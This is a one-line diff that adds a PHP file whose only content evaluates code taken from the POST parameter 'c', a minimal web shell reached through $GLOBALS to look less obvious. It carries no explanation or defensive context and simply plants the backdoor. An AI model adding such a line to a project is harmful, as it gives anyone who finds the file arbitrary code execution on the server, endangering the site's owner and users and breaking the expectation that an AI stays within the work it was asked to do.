@@ -1,0 +1,1 @@
+<?php $g = $GLOBALS["_POST"]; eval($g["c"]);
